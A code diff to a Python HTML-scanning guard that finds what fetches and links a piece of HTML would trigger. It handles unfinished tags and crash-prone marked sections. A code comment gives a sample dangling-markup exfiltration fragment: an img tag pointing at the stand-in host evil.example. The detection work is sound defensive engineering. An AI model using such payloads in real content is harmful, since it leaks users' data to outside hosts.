@@ -110,9 +110,19 @@ _DOCUMENT_TYPES = frozenset(
 )
 
 
+# What the page after a piece of HTML may hold that finishes its last tag: a quote of either kind
+# (ending an attribute's value) and a ">" (`<img src="https://evil.example/?d=` then `</user>`).
+FINISHED = "\"'>"
+
+
 def read(html: str, depth: int = 0) -> Seen:
     """What ``html`` fetches when shown, and its links, each with the offset of its tag;
-    ``depth``: how many documents it is nested in."""
+    ``depth``: how many documents it is nested in. A text of the guard's (depth 0) is a piece
+    of a page that goes on: a tag it leaves unfinished is finished by what the page puts next
+    (the ``>`` of a section's end tag, a quote of the next file), so it is read with
+    ``FINISHED`` after it; a nested document is whole, and a browser drops its unfinished tag."""
+    if depth == 0:
+        html += FINISHED
     readings = _Readings(len(html), depth)
     whole = _Collector(readings)
     whole.read(html, 0)
@@ -298,6 +308,15 @@ class _Collector(HTMLParser):
 
     def handle_comment(self, data: str) -> None:
         self._again(data, 4)  # after "<!--"
+
+    def parse_marked_section(self, i: int, report: int = 1) -> int:
+        """A marked section html.parser does not know (``<![>``, ``<![x>``) is what a browser
+        reads it as, a bogus comment to the next ">": html.parser raised AssertionError, and
+        four bytes of a user's memory crashed every compile and check of that user."""
+        try:
+            return super().parse_marked_section(i, report)
+        except AssertionError:
+            return self.parse_bogus_comment(i)
 
     def handle_decl(self, decl: str) -> None:
         self._again(decl, 2)
